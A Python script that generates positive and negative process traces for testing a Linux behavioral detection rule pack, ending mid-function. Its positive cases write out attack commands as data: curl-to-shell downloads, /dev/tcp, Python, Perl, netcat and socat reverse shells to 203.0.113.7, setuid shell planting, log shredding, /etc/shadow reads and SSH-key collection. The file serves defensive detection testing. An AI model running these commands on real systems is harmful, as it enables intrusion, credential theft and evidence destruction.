#!/usr/bin/env python3
"""Writes the positive and negative test trace of every rule in the pack.

    python3 policies/tools/make_rule_tests.py      # rewrites policies/tests/**

Each rule gets a scenario: the attack as it unfolds (positive) and the benign
look-alike closest to it (negative), both with the surrounding lineage (an
sshd or Terminal session, a shell, forks and execs) so relations resolve the
way they would on a live machine.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from bmtrace import Trace, linux_login_shell, macos_terminal_shell  # noqa: E402

OUT = Path(__file__).resolve().parent.parent / "tests"
SCENARIOS: dict[str, callable] = {}


def scenario(os: str, name: str):
    def deco(fn):
        SCENARIOS[f"{os}/{name}"] = (os, fn)
        return fn
    return deco


def lt(**kw) -> Trace:
    return Trace("linux", **kw)


def mt(**kw) -> Trace:
    return Trace("macos", **kw)


APPLE = {"platform_binary": True}


def asig(name: str) -> dict:
    return {"signing_id": f"com.apple.{name}", "platform_binary": True}


# ============================================================ Linux ==========

SHELLS = {"sh": "/usr/bin/sh", "bash": "/usr/bin/bash", "dash": "/usr/bin/dash"}


def pipeline(t: Trace, sh, left: tuple, right: tuple, left_first: bool = True):
    """`left | right` run by an interactive shell: two forked siblings on one pipe."""
    if left_first:
        a = t.spawn(sh, left[0], left[1], stdin="tty", stdout="pipe")
        b = t.spawn(sh, right[0], right[1], stdin="pipe", stdout="tty")
    else:
        b = t.spawn(sh, right[0], right[1], stdin="pipe", stdout="tty")
        a = t.spawn(sh, left[0], left[1], stdin="tty", stdout="pipe")
    return a, b


@scenario("linux", "fetch_pipe_shell")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    url = "http://203.0.113.7/i.sh"
    if pos:
        c, s = pipeline(t, sh, ("/usr/bin/curl", ["curl", "-fsSL", url]), ("/usr/bin/sh", ["sh"]))
        t.tick(800)
        t.spawn(s, "/usr/bin/uname", ["uname", "-m"], stdout="pipe")
    else:
        # curl into jq, then a script run from a file with the tty as stdin
        c, j = pipeline(t, sh, ("/usr/bin/curl", ["curl", "-s", "https://api.github.com/repos/x/y"]),
                        ("/usr/bin/jq", ["jq", ".stargazers_count"]))
        t.exit(c)
        t.exit(j)
        t.tick(2000)
        t.spawn(sh, "/usr/bin/sh", ["sh", "./configure"], stdin="tty", stdout="tty")
    return t


@scenario("linux", "fetch_pipe_shell_reversed")
def _(pos: bool):
    # the pipeline's exec order reversed: the shell reading the pipe execs first
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        pipeline(t, sh, ("/usr/bin/wget", ["wget", "-qO-", "http://198.51.100.9/x"]),
                 ("/usr/bin/bash", ["bash"]), left_first=False)
    else:
        # cat a local script into bash (shell on a pipe, no downloader beside it)
        pipeline(t, sh, ("/usr/bin/cat", ["cat", "setup.sh"]), ("/usr/bin/bash", ["bash"]),
                 left_first=False)
        t.tick(30)
        t.spawn(sh, "/usr/bin/wget", ["wget", "-q", "https://example.org/file.tar.gz"],
                stdout="tty")
    return t


def drop_exec(t: Trace, sh, path: str, sibling: bool):
    w = t.spawn(sh, "/usr/bin/wget", ["wget", "-q", "-O", path, "http://203.0.113.7/bot"])
    t.write(w, path, create=True)
    t.exit(w)
    t.tick(400)
    c = t.spawn(sh, "/usr/bin/chmod", ["chmod", "+x", path])
    t.exit(c)
    if sibling:
        t.spawn(sh, path, [path])


@scenario("linux", "drop_exec_temp")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        drop_exec(t, sh, "/tmp/bot", True)
    else:
        # the same download into the home folder, run from there
        drop_exec(t, sh, "/home/alice/bin/tool", True)
    return t


@scenario("linux", "drop_exec_temp_lineage")
def _(pos: bool):
    # the writer's own child runs the dropped file
    t = lt()
    sh = linux_login_shell(t)
    py = t.spawn(sh, "/usr/bin/python3", ["python3", "fetch.py"], cwd="/home/alice")
    if pos:
        t.write(py, "/dev/shm/kdev", create=True)
        t.tick(50)
        t.spawn(py, "/dev/shm/kdev", ["/dev/shm/kdev", "-d"], stdin="null", stdout="null")
    else:
        # writes a temp file, then runs a system binary on it
        t.write(py, "/tmp/tmpa8x2k1.json", create=True)
        t.spawn(py, "/usr/bin/jq", ["jq", ".", "/tmp/tmpa8x2k1.json"], stdout="pipe")
    return t


@scenario("linux", "reverse_shell_socket")
def _(pos: bool):
    t = lt()
    if pos:
        web = t.root("/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=33,
                     parent_exe="/usr/sbin/apache2", ppid=900)
        php = t.spawn(web, "/usr/bin/sh", ["sh", "-c", "nc 203.0.113.7 4444 -e /bin/sh"],
                      stdin="null", stdout="pipe")
        nc = t.fork(php)
        t.exec(nc, "/usr/bin/nc.traditional", ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"])
        t.tick(120)
        t.exec(nc, "/usr/bin/sh", ["/bin/sh"], stdin="socket", stdout="socket")
        t.spawn(nc, "/usr/bin/id", ["id"], stdin="socket", stdout="socket")
    else:
        # sshd runs a non-interactive command whose streams are sockets
        sshd = t.root("/usr/sbin/sshd", ["sshd: deploy [priv]"], parent_exe="/usr/sbin/sshd",
                      ppid=812)
        t.spawn(sshd, "/usr/bin/bash", ["bash", "-c", "uptime"], uid=1001, stdin="socket",
                stdout="socket")
        sh = linux_login_shell(t)
        t.spawn(sh, "/usr/bin/bash", ["bash"], stdin="tty", stdout="tty")
    return t


@scenario("linux", "dev_tcp_redirect")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "www-data", 33)
    if pos:
        t.spawn(sh, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/443 0>&1"])
    else:
        t.spawn(sh, "/usr/bin/grep", ["grep", "-rn", "/dev/tcp/", "/etc/"], stdout="pipe")
        t.spawn(sh, "/usr/bin/cat", ["cat", "/proc/net/tcp"])
        # a container health check: a bare port probe, no shell on the socket
        t.spawn(sh, "/usr/bin/timeout", ["timeout", "1", "bash", "-c", "</dev/tcp/127.0.0.1/5432"])
        t.spawn(sh, "/usr/bin/bash", ["bash", "-c", "echo > /dev/tcp/db.internal/5432"])
    return t


@scenario("linux", "python_pty_spawn")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "www-data", 33)
    if pos:
        t.spawn(sh, "/usr/bin/python3",
                ["python3", "-c", "import pty; pty.spawn('/bin/bash')"])
        t.spawn(sh, "/usr/bin/python3",
                ["python3", "-c", "import socket,subprocess,os;s=socket.socket();"
                 "s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);"
                 "os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])"])
    else:
        t.spawn(sh, "/usr/bin/python3",
                ["python3", "-c", "import socket; print(socket.gethostname())"])
        t.spawn(sh, "/usr/bin/python3", ["python3", "-m", "http.server", "8000"])
    return t


@scenario("linux", "script_socket_shell")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "www-data", 33)
    if pos:
        t.spawn(sh, "/usr/bin/perl", [
            "perl", "-e",
            "use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
            "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){"
            "open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};"])
    else:
        t.spawn(sh, "/usr/bin/perl", ["perl", "-e", "use Socket; print inet_ntoa(inet_aton('localhost'))"])
        t.spawn(sh, "/usr/bin/perl", ["perl", "-e", "exec('/bin/ls', '-l')"])
    return t


@scenario("linux", "netcat_exec")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/usr/bin/ncat", ["ncat", "203.0.113.7", "4444", "--exec", "/bin/bash"])
        t.spawn(sh, "/usr/bin/nc.traditional", ["nc", "-lvnp", "9001", "-e", "/bin/sh"])
    else:
        t.spawn(sh, "/usr/bin/nc.openbsd", ["nc", "-zv", "db.internal", "5432"])
        t.spawn(sh, "/usr/bin/nc.openbsd", ["nc", "-l", "8080"], stdout="file")
        t.spawn(sh, "/usr/bin/busybox", ["busybox", "sed", "-e", "s/a/b/", "f.txt"])
    return t


@scenario("linux", "socat_exec")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/usr/bin/socat", ["socat", "TCP:203.0.113.7:4444", "EXEC:/bin/bash,pty,stderr,setsid"])
    else:
        t.spawn(sh, "/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:127.0.0.1:80"])
        t.spawn(sh, "/usr/bin/socat", ["socat", "-", "EXEC:./local-test.sh"])
    return t


@scenario("linux", "decode_pipe_shell")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        # echo is a builtin: bash forks a subshell for it, then base64 and bash
        t.fork(sh, stdout="pipe")
        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]), ("/usr/bin/bash", ["bash"]))
    else:
        t.fork(sh, stdout="pipe")
        pipeline(t, sh, ("/usr/bin/base64", ["base64", "--decode"]), ("/usr/bin/jq", ["jq", "."]))
        t.fork(sh, stdout="pipe")
        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]),
                 ("/usr/bin/python3", ["python3", "-m", "json.tool"]))
        t.spawn(sh, "/usr/bin/base64", ["base64", "-d", "cert.b64"], stdout="file")
    return t


@scenario("linux", "decode_pipe_shell_reversed")
def _(pos: bool):
    # `echo ... | base64 -d | bash` with bash exec'ing before base64
    t = lt()
    sh = linux_login_shell(t)
    t.fork(sh, stdout="pipe")
    if pos:
        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]), ("/usr/bin/bash", ["bash"]),
                 left_first=False)
    else:
        # python3 reading a pipe with a script argument, then a decoder beside it
        pipeline(t, sh, ("/usr/bin/base64", ["base64", "-d"]),
                 ("/usr/bin/python3", ["python3", "check.py"]), left_first=False)
    return t


@scenario("linux", "setuid_file_temp")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        # install -m 4755 plants a setuid root copy of a shell in a hidden temp folder
        i = t.spawn(sh, "/usr/bin/install", ["install", "-m", "4755", "/bin/bash", "/tmp/.cache/bash"])
        t.write(i, "/tmp/.cache/bash", create=True, uid=0, mode=0o104755)
    else:
        # ordinary executables and a setgid directory's file in /tmp, a setuid file installed in /usr/local
        i = t.spawn(sh, "/usr/bin/install", ["install", "-m", "755", "build/tool", "/tmp/tool"])
        t.write(i, "/tmp/tool", create=True, uid=0, mode=0o100755)
        i = t.spawn(sh, "/usr/bin/install", ["install", "-m", "4755", "build/helper",
                                             "/usr/local/bin/helper"])
        t.write(i, "/usr/local/bin/helper", create=True, uid=0, mode=0o104755)
    return t


@scenario("linux", "script_decode_exec")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/usr/bin/python3", [
            "python3", "-c",
            "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"])
    else:
        t.spawn(sh, "/usr/bin/python3", [
            "python3", "-c", "import base64,sys;print(base64.b64decode(sys.argv[1]))", "aGk="])
    return t


# -- persistence --------------------------------------------------------------

@scenario("linux", "cron_file_write")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/.s/inst.py"])
        t.write(py, "/etc/cron.d/sys-update", create=True)
    else:
        # apt installs a package that ships a cron.d file
        apt = t.spawn(sh, "/usr/bin/apt-get", ["apt-get", "install", "-y", "sysstat"])
        dpkg = t.spawn(apt, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "35", "--unpack",
                                              "/var/cache/apt/archives/sysstat_12.6.1-1_amd64.deb"])
        t.write(dpkg, "/etc/cron.d/sysstat.dpkg-new", create=True)
        t.rename(dpkg, "/etc/cron.d/sysstat.dpkg-new", "/etc/cron.d/sysstat")
        t.open(sh, "/etc/crontab")
    return t


@scenario("linux", "crontab_from_pipe")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        sub = t.fork(sh, stdout="pipe")
        t.spawn(sub, "/usr/bin/crontab", ["crontab", "-l"], stdout="pipe")
        t.spawn(sh, "/usr/bin/crontab", ["crontab", "-"], stdin="pipe")
    else:
        t.spawn(sh, "/usr/bin/crontab", ["crontab", "-l"], stdout="pipe")
        t.spawn(sh, "/usr/bin/crontab", ["crontab", "-e"])
    return t


@scenario("linux", "systemd_unit_write")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        tee = t.spawn(sh, "/usr/bin/tee", ["tee", "/home/alice/.config/systemd/user/dbus-helper.service"],
                      stdin="pipe")
        t.write(tee, "/home/alice/.config/systemd/user/dbus-helper.service", create=True)
        t.spawn(sh, "/usr/bin/systemctl", ["systemctl", "--user", "enable", "--now", "dbus-helper"])
    else:
        root = linux_login_shell(t, "root", 0)
        dpkg = t.spawn(root, "/usr/bin/dpkg", ["dpkg", "-i", "nginx_1.24.0-2_amd64.deb"])
        t.write(dpkg, "/lib/systemd/system/nginx.service.dpkg-new", create=True)
        t.rename(dpkg, "/lib/systemd/system/nginx.service.dpkg-new", "/lib/systemd/system/nginx.service")
        post = t.spawn(dpkg, "/usr/bin/sh", ["/bin/sh", "/var/lib/dpkg/info/nginx.postinst", "configure"])
        helper = t.spawn(post, "/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/deb-systemd-helper", "enable", "nginx.service"])
        t.file(helper, "create", "/etc/systemd/system/multi-user.target.wants/nginx.service")
        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/systemd/system/multi-user.target.wants/nginx.service"])
    return t


@scenario("linux", "shell_rc_write")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/u.py"])
        t.write(py, "/home/alice/.bashrc")
    else:
        vim = t.spawn(sh, "/usr/bin/vim.basic", ["vim", "/home/alice/.bashrc"])
        t.write(vim, "/home/alice/.bashrc.swp", create=True)
        t.rename(vim, "/home/alice/.bashrc", "/home/alice/.bashrc~")
        t.write(vim, "/home/alice/.bashrc", create=True)
        t.unlink(vim, "/home/alice/.bashrc~")
        t.exit(vim)
        t.file(sh, "close_modified", "/home/alice/.bashrc")  # echo 'alias ll=ls -l' >> ~/.bashrc
    return t


@scenario("linux", "authorized_keys_write")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        c = t.spawn(sh, "/usr/bin/curl", ["curl", "-s", "http://203.0.113.7/k", "-o", "/root/.ssh/authorized_keys"])
        t.write(c, "/root/.ssh/authorized_keys")
    else:
        v = t.spawn(sh, "/usr/bin/vim.basic", ["vim", "/root/.ssh/authorized_keys"])
        t.write(v, "/root/.ssh/authorized_keys")
        t.write(t.spawn(sh, "/usr/bin/ssh-keygen", ["ssh-keygen", "-t", "ed25519", "-f", "/root/.ssh/id_ed25519"]),
                "/root/.ssh/id_ed25519.pub", create=True)
    return t


# -- defense evasion ----------------------------------------------------------

@scenario("linux", "history_file_delete")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "-f", "/home/alice/.bash_history"])
        t.unlink(rm, "/home/alice/.bash_history")
    else:
        t.spawn(sh, "/usr/bin/tail", ["tail", "/home/alice/.bash_history"])
        t.file(sh, "close_modified", "/home/alice/.bash_history")  # bash saves history on exit
        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "/home/alice/.lesshst"])
        t.unlink(rm, "/home/alice/.lesshst")
    return t


@scenario("linux", "history_tamper_cmd")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/home/alice/.bash_history"])
    else:
        t.spawn(sh, "/usr/bin/cp", ["cp", "/home/alice/.bash_history", "/home/alice/hist.bak"])
        t.spawn(sh, "/usr/bin/ln", ["ln", "-s", "/dev/null", "/home/alice/out.log"])
    return t


@scenario("linux", "log_deletion")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    logs = ["/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp", "/var/log/btmp", "/var/log/kern.log"]
    if pos:
        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "-rf"] + logs)
        for p in logs:
            t.unlink(rm, p)
    else:
        # logrotate (from its systemd timer) compresses and drops old logs
        lr = t.root("/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"],
                    parent_exe="/usr/lib/systemd/systemd", ppid=1)
        for i, p in enumerate(logs):
            t.unlink(lr, p + ".4.gz")
            gz = t.spawn(lr, "/usr/bin/gzip", ["/bin/gzip"], stdin="file", stdout="file")
            t.write(gz, p + ".2.gz", create=True)
            t.unlink(gz, p + ".2")
        rm = t.spawn(sh, "/usr/bin/rm", ["rm", "/var/log/installer.old"])
        t.unlink(rm, "/var/log/installer.old")
    return t


@scenario("linux", "log_wipe_cmd")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/usr/bin/shred", ["shred", "-zu", "/var/log/auth.log"])
        t.spawn(sh, "/usr/bin/truncate", ["truncate", "-s", "0", "/var/log/wtmp"])
    else:
        t.spawn(sh, "/usr/bin/truncate", ["truncate", "-s", "1G", "/srv/disk.img"])
        t.spawn(sh, "/usr/bin/tail", ["tail", "-f", "/var/log/syslog"])
    return t


@scenario("linux", "chattr_immutable")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/usr/bin/chattr", ["chattr", "+i", "/root/.ssh/authorized_keys"])
    else:
        t.spawn(sh, "/usr/bin/chattr", ["chattr", "-i", "/etc/resolv.conf"])
        t.spawn(sh, "/usr/bin/lsattr", ["lsattr", "/etc/resolv.conf"])
    return t


@scenario("linux", "timestomp")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/usr/bin/touch", ["touch", "-r", "/bin/ls", "/usr/local/bin/.updater"])
    else:
        t.spawn(sh, "/usr/bin/touch", ["touch", "/var/run/app.ready"])
        mk = t.spawn(sh, "/usr/bin/make", ["make"], cwd="/home/alice/src/app")
        msh = t.spawn(mk, "/usr/bin/sh", ["/bin/sh", "-c", "touch -r configure.ac /usr/src/app/stamp-h1"])
        t.spawn(msh, "/usr/bin/touch", ["touch", "-r", "configure.ac", "/usr/src/app/stamp-h1"])
    return t


@scenario("linux", "kernel_thread_masquerade")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/tmp/.x/kworkerds", ["[kworker/0:2]"])
    else:
        t.spawn(sh, "/usr/bin/ps", ["ps", "-ef"], stdout="pipe")
        t.spawn(sh, "/usr/bin/grep", ["grep", "kworker"], stdin="pipe")
    return t


@scenario("linux", "daemon_name_masquerade")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/var/tmp/sshd", ["/var/tmp/sshd", "-D"])
    else:
        t.spawn(sh, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-t"])
        t.spawn(sh, "/usr/lib/systemd/systemd-resolved", ["/lib/systemd/systemd-resolved"])
    return t


@scenario("linux", "shell_copied_as_daemon")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        cp = t.spawn(sh, "/usr/bin/cp", ["cp", "/bin/bash", "/dev/shm/rsyslogd"])
        t.write(cp, "/dev/shm/rsyslogd", create=True)
        t.exit(cp)
        t.spawn(sh, "/dev/shm/rsyslogd", ["/dev/shm/rsyslogd", "-p"])
    else:
        cp = t.spawn(sh, "/usr/bin/cp", ["cp", "/bin/bash", "/srv/chroot/bin/bash"])
        t.write(cp, "/srv/chroot/bin/bash", create=True)
        cp2 = t.spawn(sh, "/usr/bin/cp", ["cp", "/usr/bin/htop", "/opt/tools/htop"])
        t.write(cp2, "/opt/tools/htop", create=True)
        t.spawn(sh, "/opt/tools/htop", ["/opt/tools/htop"])
    return t


@scenario("linux", "hidden_dir_exec")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/home/alice/.cache/.sys/xmrig", ["/home/alice/.cache/.sys/xmrig", "-o", "pool:3333"])
    else:
        t.spawn(sh, "/home/alice/.local/bin/poetry", ["poetry", "install"])
        t.spawn(sh, "/tmp/.mount_NvimQx/AppRun", ["/tmp/.mount_NvimQx/AppRun"])
    return t


# -- credential access --------------------------------------------------------

@scenario("linux", "shadow_read")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/lz.py"])
        t.open(py, "/etc/shadow")
    else:
        pw = t.spawn(sh, "/usr/bin/passwd", ["passwd", "alice"])
        t.open(pw, "/etc/shadow")
        t.write(pw, "/etc/nshadow", create=True)
        su = t.spawn(sh, "/usr/bin/sudo", ["sudo", "-l"])
        t.open(su, "/etc/shadow")
    return t


@scenario("linux", "shadow_dump_cmd")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/shadow"])
    else:
        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/passwd"])
        t.spawn(sh, "/usr/bin/ls", ["ls", "-l", "/etc/shadow"])
    return t


@scenario("linux", "ssh_key_hunt")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/usr/bin/find", ["find", "/", "-name", "id_rsa", "-o", "-name", "id_ed25519"])
    else:
        t.spawn(sh, "/usr/bin/find", ["find", ".", "-name", "*.c"])
        t.spawn(sh, "/usr/bin/grep", ["grep", "-rn", "TODO", "src/"])
    return t


@scenario("linux", "ssh_key_collect")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    keys = ["/root/.ssh/id_rsa", "/home/alice/.ssh/id_ed25519", "/home/bob/.ssh/id_rsa"]
    if pos:
        tar = t.spawn(sh, "/usr/bin/tar", ["tar", "czf", "/tmp/k.tgz"] + keys)
        for k in keys:
            t.open(tar, k)
    else:
        ssh = t.spawn(sh, "/usr/bin/ssh", ["ssh", "git@github.com"])
        for k in ["/root/.ssh/id_rsa", "/root/.ssh/id_ecdsa", "/root/.ssh/id_ed25519"]:
            t.open(ssh, k)
        cat = t.spawn(sh, "/usr/bin/cat", ["cat", "/root/.ssh/id_rsa.pub"])
        t.open(cat, "/root/.ssh/id_rsa.pub")
    return t


@scenario("linux", "browser_credential_access")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    prof = "/home/alice/.config/google-chrome/Default"
    if pos:
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "/tmp/.c/grab.py"])
        t.open(py, prof + "/Login Data")
        t.open(py, "/home/alice/.mozilla/firefox/x1y2z3.default-release/logins.json")
    else:
        ch = t.spawn(sh, "/opt/google/chrome/chrome", ["/opt/google/chrome/chrome"])
        t.open(ch, prof + "/Login Data")
        t.open(ch, prof + "/Network/Cookies")
        ls = t.spawn(sh, "/usr/bin/ls", ["ls", prof])
        t.open(ls, prof + "/Preferences")
    return t


# -- discovery ----------------------------------------------------------------

RECON = [("whoami", ["whoami"]), ("id", ["id"]), ("uname", ["uname", "-a"]),
         ("hostname", ["hostname"]), ("ip", ["ip", "a"]), ("ss", ["ss", "-tulpn"]),
         ("ps", ["ps", "aux"]), ("cat", ["cat", "/etc/passwd"])]


@scenario("linux", "discovery_burst")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "www-data", 33)
    if pos:
        s = t.spawn(sh, "/usr/bin/sh", ["sh", "/tmp/r.sh"])
        for name, args in RECON:
            c = t.spawn(s, f"/usr/bin/{name}", args, stdout="pipe")
            t.exit(c)
            t.tick(150)
    else:
        # an admin glances at the box over several minutes
        for name, args in RECON[:5]:
            c = t.spawn(sh, f"/usr/bin/{name}", args)
            t.exit(c)
            t.tick(20_000)
        for name, args in RECON[5:]:
            c = t.spawn(sh, f"/usr/bin/{name}", args)
            t.exit(c)
        # a Puppet run: facter probes the system from the agent's ruby
        pup = t.root("/opt/puppetlabs/puppet/bin/ruby", ["/opt/puppetlabs/puppet/bin/ruby",
                     "/opt/puppetlabs/puppet/bin/puppet", "agent", "--onetime", "--no-daemonize"],
                     parent_exe="/usr/lib/systemd/systemd", ppid=1)
        for name, args in RECON + [("lscpu", ["lscpu"]), ("hostnamectl", ["hostnamectl"])]:
            c = t.spawn(pup, f"/usr/bin/{name}", args, stdout="pipe")
            t.exit(c)
            t.tick(40)
    return t


# -- privilege escalation -----------------------------------------------------

@scenario("linux", "setuid_chmod")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "u+x,g+s", "/usr/local/bin/helper"])
    else:
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "755", "/usr/local/bin/helper"])
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "u+x,g-w", "/usr/local/bin/helper"])
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "0644", "/etc/app.conf"])
    return t


@scenario("linux", "setuid_temp_exec")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        cp = t.spawn(sh, "/usr/bin/cp", ["cp", "/bin/bash", "/tmp/.b"])
        t.write(cp, "/tmp/.b", create=True)
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "4755", "/tmp/.b"])
    else:
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "1777", "/tmp/shared"])
        t.spawn(sh, "/usr/bin/chmod", ["chmod", "+x", "/tmp/run.sh"])
    return t


@scenario("linux", "sudoers_write")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        tee = t.spawn(sh, "/usr/bin/tee", ["tee", "-a", "/etc/sudoers"], stdin="pipe")
        t.write(tee, "/etc/sudoers")
    else:
        vs = t.spawn(sh, "/usr/sbin/visudo", ["visudo", "-f", "/etc/sudoers.d/ops"])
        ed = t.spawn(vs, "/usr/bin/vim.basic", ["vim", "/etc/sudoers.d/ops.tmp"])
        t.write(ed, "/etc/sudoers.d/ops.tmp", create=True)
        t.exit(ed)
        t.rename(vs, "/etc/sudoers.d/ops.tmp", "/etc/sudoers.d/ops")
    return t


@scenario("linux", "ld_preload_file")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t, "root", 0)
    if pos:
        sub = t.fork(sh, stdout="file")  # echo /usr/lib/x.so > /etc/ld.so.preload
        t.write(sub, "/etc/ld.so.preload", create=True)
    else:
        t.spawn(sh, "/usr/bin/cat", ["cat", "/etc/ld.so.preload"])
        ld = t.spawn(sh, "/usr/sbin/ldconfig", ["ldconfig"])
        t.write(ld, "/etc/ld.so.cache~", create=True)
        t.rename(ld, "/etc/ld.so.cache~", "/etc/ld.so.cache")
    return t


@scenario("linux", "ld_preload_env")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    if pos:
        t.spawn(sh, "/usr/bin/env", ["env", "LD_PRELOAD=/dev/shm/libhook.so", "/usr/bin/sudo", "-l"])
    else:
        t.spawn(sh, "/usr/bin/env", ["env", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "redis-server"])
    return t


# -- impact -------------------------------------------------------------------

@scenario("linux", "rename_storm")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    files = [f"/home/alice/Documents/report-{i:03d}.docx" for i in range(60)]
    if pos:
        w = t.spawn(sh, "/home/alice/Downloads/invoice", ["./invoice"], cwd="/home/alice/Downloads")
        for f in files:
            t.open(w, f)
            t.write(w, f)
            t.rename(w, f, f + ".x7k2")
            t.tick(40)
    else:
        # rsync-style writes of temp files renamed into place, and git objects
        rs = t.spawn(sh, "/usr/bin/rsync", ["rsync", "-a", "backup:/docs/", "/home/alice/Documents/"])
        for f in files:
            d, b = f.rsplit("/", 1)
            tmp = f"{d}/.{b}.Gx81Qa"
            t.write(rs, tmp, create=True)
            t.rename(rs, tmp, f)
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "organize.py"])
        for f in files[:20]:
            t.rename(py, f, f.replace("Documents", "Archive"))
    return t


@scenario("linux", "ransom_extension_rename")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    files = [f"/home/alice/Pictures/IMG_{i:04d}.jpg" for i in range(12)]
    if pos:
        w = t.spawn(sh, "/tmp/locker", ["/tmp/locker"])
        for f in files:
            t.write(w, f)
            t.rename(w, f, f + ".locked")
    else:
        # photo tool renames into dated names; one archive gets an .enc-free name
        py = t.spawn(sh, "/usr/bin/python3", ["python3", "rename_photos.py"])
        for i, f in enumerate(files):
            t.rename(py, f, f"/home/alice/Pictures/2026-11-{i + 1:02d}.jpg")
        gpg = t.spawn(sh, "/usr/bin/gpg", ["gpg", "-c", "/home/alice/secrets.txt"])
        t.write(gpg, "/home/alice/secrets.txt.gpg", create=True)
        # a sync tool moves finished temporary files into place under a listed extension:
        # the target is not the source plus an extension
        sync = t.spawn(sh, "/usr/bin/python3", ["python3", "vault_sync.py"])
        for i in range(12):
            t.rename(sync, f"/home/alice/vault/.tmp-{i:04d}", f"/home/alice/vault/blob-{i:04d}.enc")
    return t


@scenario("linux", "rewrite_storm")
def _(pos: bool):
    t = lt()
    sh = linux_login_shell(t)
    files = [f"/home/alice/Documents/invoices/inv-{i:03d}.pdf" for i in range(60)]
    if pos:
